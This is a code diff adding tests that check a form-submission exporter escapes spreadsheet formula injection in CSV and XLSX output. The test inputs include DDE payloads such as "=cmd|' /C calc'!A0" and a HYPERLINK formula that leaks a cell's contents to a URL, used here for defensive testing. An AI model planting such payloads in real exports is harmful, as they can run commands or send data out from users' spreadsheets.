@@ -1,6 +1,7 @@
 import { sql } from 'drizzle-orm'
 import { strFromU8, unzipSync } from 'fflate'
 import { expect, it } from 'vitest'
+import { csvOf } from '../../../src/server/submissions/csv.ts'
 import { xlsxOf } from '../../../src/server/submissions/xlsx.ts'
 import { FILLED } from '../../support/forms.ts'
 import { testInbox } from '../../support/inbox.ts'
@@ -65,4 +66,44 @@ it('a sheet is as programs that read it ask: rows from one, no cell longer than 
     ['2', 'A &amp; B'],
     ['3', '长'.repeat(32_767)],
   ])
+})
+
+it.each([
+  '=1+1',
+  '+cmd|x',
+  '-2+3',
+  '@SUM(A1)',
+  '\t=1',
+  '\r\n=1',
+  '\u00a0=1',
+  '\u200b=1',
+  '\ufeff=1',
+  '\u0000=1',
+  '\u3000＝1',
+  '＋1+1',
+  '－1-1',
+  '＠x',
+  '﹦1',
+  '﹢1+1',
+  '﹣1-1',
+  '﹫x',
+  '⁼1',
+  '−1+1',
+  "=cmd|' /C calc'!A0",
+  '+1(2)',
+  '-1e5',
+  '=HYPERLINK("https://x/?"&A1)',
+])('as a title or an answer, %j is no formula', (text) => {
+  const [titles = '', answers = ''] = csvOf([
+    ['编号', text],
+    ['1', text],
+  ]).split(/\r\n(?=1,)/)
+  for (const row of [titles, answers]) expect(row).toMatch(/^\ufeff?[^,]+,"?'/)
+  const sheet = unzipSync(xlsxOf([[text], [text]]))['xl/worksheets/sheet1.xml'] ?? new Uint8Array()
+  expect(strFromU8(sheet).match(/<c t="inlineStr"><is><t[^>]*>'/g)).toHaveLength(2)
+  expect(strFromU8(sheet)).not.toMatch(/<f>|t="str"/)
+})
+
+it.each(['-1', '+1.5', '0', '2026-11-22', '13800000000', 'a=b', '（=1）'])('%j stays as it is', (text) => {
+  expect(csvOf([[text]])).toBe(`\uFEFF${text}\r\n`)
 })
